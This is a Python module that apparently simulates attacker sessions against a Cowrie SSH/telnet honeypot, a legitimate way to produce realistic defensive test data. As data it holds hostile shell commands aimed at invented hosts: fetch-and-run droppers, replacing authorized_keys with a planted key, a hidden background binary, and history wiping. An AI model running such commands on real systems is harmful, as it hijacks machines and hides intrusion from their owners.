"""What attackers do in the sandbox: how a session of each campaign goes, from which pools, how often.

Lives here: the campaigns and their scripts. Not here: the form of the events (`eventlines`), the odd lines that no
campaign has and the files (`traffic`). All names, keys, hosts and payloads are invented.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from hashlib import md5, sha256
from random import Random
from typing import Literal

from cowrie_assets.sandbox.eventlines import Client, PublicKey, SessionLog

Script = Callable[[SessionLog, Random], None]


@dataclass(frozen=True)
class Campaign:
    """One kind of traffic.

    `share` is its part of a day's sessions, `pools` are names of `pools.POOLS`. Sessions come from `hosts` addresses,
    some of them far more often than others; 0 stands for a new address in every session. `hours` limits it to a part
    of the day (UTC).
    """

    name: str
    protocol: Literal["ssh", "telnet"]
    share: float
    pools: tuple[str, ...]
    hosts: int
    play: Script
    hours: tuple[float, float] = (0.0, 24.0)


def invented_key(label: str) -> PublicKey:
    """A well-formed RSA key of 2048 bits that follows from the label. Nobody has its private half."""
    modulus = b"\x00\xc1" + b"".join(sha256(f"{label} {part}".encode()).digest() for part in range(8))[1:]
    wire = b"".join(len(part).to_bytes(4) + part for part in (b"ssh-rsa", b"\x01\x00\x01", modulus))
    fingerprint = md5(wire, usedforsecurity=False).hexdigest()
    pairs = ":".join(fingerprint[at : at + 2] for at in range(0, 32, 2))
    return PublicKey("ssh-rsa", base64.b64encode(wire).decode("ascii"), pairs)


PLANTED_KEY = invented_key("tidewatch")
_OFFERED_KEYS = tuple(invented_key(f"offered {number}") for number in range(6))

_CURVES = ("curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384")
_GROUPS = ("diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1")
_MODERN_KEYS = ("ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa")
_CTR = ("aes128-ctr", "aes192-ctr", "aes256-ctr")
_CBC = ("aes128-cbc", "aes256-cbc", "3des-cbc")

_GO = Client(
    "SSH-2.0-Go",
    (*_CURVES, *_GROUPS[:2]),
    _MODERN_KEYS,
    ("aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", *_CTR),
    ("hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1", "hmac-sha1-96"),
)
_LIBSSH2 = Client(
    "SSH-2.0-libssh2_1.9.0",
    (*_CURVES[2:], "diffie-hellman-group-exchange-sha256", *_GROUPS),
    ("ssh-rsa", "ssh-dss"),
    (*_CTR, *_CBC, "arcfour128"),
    ("hmac-sha2-256", "hmac-sha2-512", "hmac-sha1", "hmac-md5"),
)
_OPENSSH = Client(
    "SSH-2.0-OpenSSH_9.6p1 Debian-4",
    ("sntrup761x25519-sha512@openssh.com", *_CURVES, "diffie-hellman-group16-sha512", _GROUPS[0]),
    _MODERN_KEYS,
    ("chacha20-poly1305@openssh.com", *_CTR, "aes256-gcm@openssh.com"),
    ("umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512"),
    ("none", "zlib@openssh.com"),
)
_PARAMIKO = Client(
    "SSH-2.0-paramiko_2.12.0",
    (*_CURVES[1:], "diffie-hellman-group16-sha512", *_GROUPS[:2]),
    _MODERN_KEYS[:3],
    (*_CTR, *_CBC),
    ("hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"),
)
_BOT = Client(
    "SSH-2.0-tidecrawler_0.3",
    _GROUPS,
    ("ssh-rsa",),
    ("aes256-cbc", "3des-cbc", "arcfour"),
    ("hmac-sha1", "hmac-md5"),
)
_CLIENTS = (_GO, _GO, _LIBSSH2, _PARAMIKO, _BOT)

_USERS = ("root",) * 8 + ("admin", "ubuntu", "oracle", "postgres", "git", "deploy", "pi", "ftpuser", "test", "guest")
PASSWORD_WORDS = (
    "harbour",
    "lantern",
    "anchor",
    "breaker",
    "cobalt",
    "granite",
    "willow",
    "ember",
    "drizzle",
    "marble",
)
PASSWORD_SEPARATORS = ("", "!", "@", "#")
_COMMON = ("123456", "password", "admin", "root", "qwerty", "letmein", "changeme", "111111", "1q2w3e4r", "P@ssw0rd")
_IOT_LOGINS = (
    ("root", "root"), ("admin", "admin"), ("root", "default"), ("support", "support"), ("root", "camera9"),
    ("user", "user"), ("root", "dvr-4444"), ("guest", "12345"), ("admin", "7ujMnbv"), ("root", ""),
)  # fmt: skip
_ARCHITECTURES = ("linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "linux-aarch64-lsb")
_DROPPERS = tuple(
    (f"http://{host}/{name}", f"#!/bin/sh\n# invented sample payload {host} {name}\n".encode())
    for host, name in (
        ("files.tidepool.example", "bins/t.sh"),
        ("files.tidepool.example", "bins/tide.x86_64"),
        ("29.19.200.17", "h/harbour.arm7"),
        ("29.19.200.17", "h/harbour.mips"),
        ("29.19.200.81:8081", "ember"),
    )
)
_UPLOADS = tuple(b"invented sample upload %d" % number for number in range(3))
# The sha256 of every file that a session leaves behind.
SAMPLE_FILES = tuple(sha256(content).hexdigest() for content in (*(file for _, file in _DROPPERS), *_UPLOADS))
_TUNNEL_TARGETS = (
    ("mail.swell.example", 25), ("www.breakwater.example", 443), ("api.breakwater.example", 443),
    ("ip.lookup.example", 80), ("26.72.17.9", 443), ("2a1f:a700::25", 443), ("shop.cove.example", 443),
)  # fmt: skip
_HUMAN_COMMANDS = (
    "w", "uname -a", "id", "cat /etc/passwd", "ls -la /", "cat /proc/cpuinfo | grep name | wc -l", "free -m",
    "crontab -l", "ps aux | head", "ifconfig", "history -c", "df -h", "last", "cd /tmp && ls",
)  # fmt: skip
_MENU_COMMANDS = ("enable", "system", "shell")
_UNKNOWN_COMMANDS = ("lockr -ia .ssh", "tidectl status", "/ip cloud print")

# What is tried again and again, in whatever campaign.
COMMON_PASSWORDS = tuple(dict.fromkeys((*_COMMON, *(password for _, password in _IOT_LOGINS if password))))


def password_of(word: str, separator: str, number: int) -> str:
    return f"{word}{separator}{number}"


def _password(rng: Random) -> str:
    if rng.random() < 0.5:
        return rng.choice(_COMMON)
    return password_of(rng.choice(PASSWORD_WORDS), rng.choice(PASSWORD_SEPARATORS), rng.randrange(10_000))


def _stuff_credentials(log: SessionLog, rng: Random) -> None:
    """One login from each of very many addresses of one network, and away: nothing an address limit would notice."""
    log.handshake(_GO)
    log.wait(0.2, 0.9)
    log.login(f"{rng.choice(PASSWORD_WORDS)}.{rng.choice(PASSWORD_WORDS)}", _password(rng))
    log.wait(0.05, 0.4)


def _plant_key(log: SessionLog, rng: Random) -> None:
    """Make the own key the only way in, then have a look at the machine."""
    log.handshake(_LIBSSH2)
    log.wait(0.5, 2)
    log.login("root", _password(rng), success=True)
    log.open_shell(_ARCHITECTURES[0])
    line = f"{PLANTED_KEY.key_type} {PLANTED_KEY.key_data} tidewatch"
    log.command(f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{line}" >> ~/.ssh/authorized_keys && chmod -R go= ~/.ssh')
    log.wait(0.2, 1)
    log.command(_UNKNOWN_COMMANDS[0], known=False)
    for command in rng.sample(_HUMAN_COMMANDS, rng.randrange(0, 3)):
        log.wait(0.2, 1)
        log.command(command)
    log.close_shell()


def _fetch(log: SessionLog, rng: Random) -> None:
    url, content = rng.choice(_DROPPERS)
    name = url.rpartition("/")[2]
    log.command(f"cd /tmp || cd /var/run; wget {url} -O {name}; chmod 777 {name}; ./{name}; rm -f {name}")
    log.wait(0.5, 4)
    if rng.random() < 0.15:
        log.failed_download(url)
    else:
        log.download(url, content)


def _drop_by_ssh(log: SessionLog, rng: Random) -> None:
    """Fetch a program with wget, or bring it along over SFTP, and start it."""
    log.handshake(_BOT)
    log.wait(0.5, 2)
    log.login("root", _password(rng), success=True)
    log.open_shell(rng.choice(_ARCHITECTURES))
    if rng.random() < 0.3:
        log.upload(".harbourd", _UPLOADS[rng.randrange(3)])
        log.wait(0.2, 1)
        log.command("chmod +x .harbourd; nohup ./.harbourd >/dev/null 2>&1 &")
    for _ in range(rng.randrange(1, 3)):
        log.wait(0.2, 2)
        _fetch(log, rng)
    log.close_shell()


def _drop_by_telnet(log: SessionLog, rng: Random) -> None:
    """What worms for cameras and recorders do: find a real shell behind the vendor's menu, then fetch themselves."""
    log.wait(0.5, 2)
    log.login(*rng.choice(_IOT_LOGINS), success=True)
    log.open_shell(_ARCHITECTURES[2])
    for command in _MENU_COMMANDS:
        log.command(command, known=False)
    log.command("/bin/busybox TIDEPOOL")
    log.wait(0.2, 1)
    _fetch(log, rng)
    log.close_shell()


def _tunnel(log: SessionLog, rng: Random) -> None:
    """Use the honeypot as a SOCKS proxy, `ssh -D`: no shell, only connections onwards."""
    log.handshake(_OPENSSH)
    log.wait(0.5, 2)
    log.login("admin", "admin", success=True)
    for _ in range(rng.randrange(3, 10)):
        log.wait(0.5, 8)
        host, port = rng.choice(_TUNNEL_TARGETS)
        if port == 443:
            log.forward(host, port, b"\x16\x03\x01\x02\x00\x01\x00" + rng.randbytes(24))
        else:
            log.forward(host, port, f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())


def _look_around(log: SessionLog, rng: Random) -> None:
    """A person behind an anonymity network who types."""
    log.handshake(_OPENSSH)
    log.wait(1, 8)
    if rng.random() < 0.5:
        log.key_login("root", rng.choice(_OFFERED_KEYS))
        log.wait(1, 5)
    log.login("root", _password(rng))
    log.wait(1, 8)
    log.login("root", _password(rng), success=True)
    log.open_shell(_ARCHITECTURES[0])
    for command in rng.sample(_HUMAN_COMMANDS, rng.randrange(2, 8)):
        log.wait(1, 20)
        log.command(command)
    if rng.random() < 0.3:
        log.command(rng.choice(_UNKNOWN_COMMANDS), known=False)
    log.close_shell()


def _guess_by_ssh(log: SessionLog, rng: Random) -> None:
    log.handshake(rng.choice(_CLIENTS))
    for _ in range(rng.choice((1, 1, 2, 3))):
        log.wait(0.5, 3)
        log.login(rng.choice(_USERS), _password(rng))
    log.wait(0.1, 2)


def _guess_by_telnet(log: SessionLog, rng: Random) -> None:
    for _ in range(rng.choice((1, 2, 3))):
        log.wait(0.8, 4)
        log.login(*rng.choice(_IOT_LOGINS))
    log.wait(0.1, 2)


def _scan(log: SessionLog, rng: Random) -> None:
    """See what listens. Some speak TLS or HTTP to it, which Cowrie logs as the client's version."""
    log.wait(0.05, 0.5)
    greeting = rng.choice(("", "GET / HTTP/1.1", "b'\\x16\\x03\\x01\\x00\\xee\\x01'", "b'SSH-2.0-tidecrawler_0.3'"))
    if greeting:
        log.version(greeting)
    else:
        log.handshake(_OPENSSH)
    log.wait(0.05, 10)


_CLOUDS = ("aws", "azure", "gcp", "digitalocean", "linode", "ovh", "hetzner", "alibaba", "vultr")
_TELECOMS = ("fjordlink", "red-delta", "pampas", "monsoon", "jade-river", "aegean")

CAMPAIGNS: tuple[Campaign, ...] = (
    Campaign("credential stuffing", "ssh", 0.20, ("saltmarsh",), 0, _stuff_credentials, (1.5, 5.0)),
    Campaign("key planting", "ssh", 0.07, ("digitalocean", "linode", "hetzner", "ebbtide"), 48, _plant_key),
    Campaign("dropper", "ssh", 0.05, ("ebbtide", "alibaba", "vultr"), 30, _drop_by_ssh, (9.0, 17.0)),
    Campaign("tunnels", "ssh", 0.02, ("quiet-harbour", "ovh"), 14, _tunnel),
    Campaign("anonymous visitors", "ssh", 0.03, ("lantern",), 60, _look_around),
    Campaign("scanners", "ssh", 0.12, _CLOUDS[:4], 90, _scan),
    Campaign("telnet worm", "telnet", 0.05, _TELECOMS, 240, _drop_by_telnet),
    Campaign("telnet guessing", "telnet", 0.15, _TELECOMS, 420, _guess_by_telnet),
    Campaign("own network", "ssh", 0.005, ("internal",), 30, _guess_by_ssh),
    Campaign("guessing", "ssh", 0.305, (*_CLOUDS, *_TELECOMS), 900, _guess_by_ssh),
)
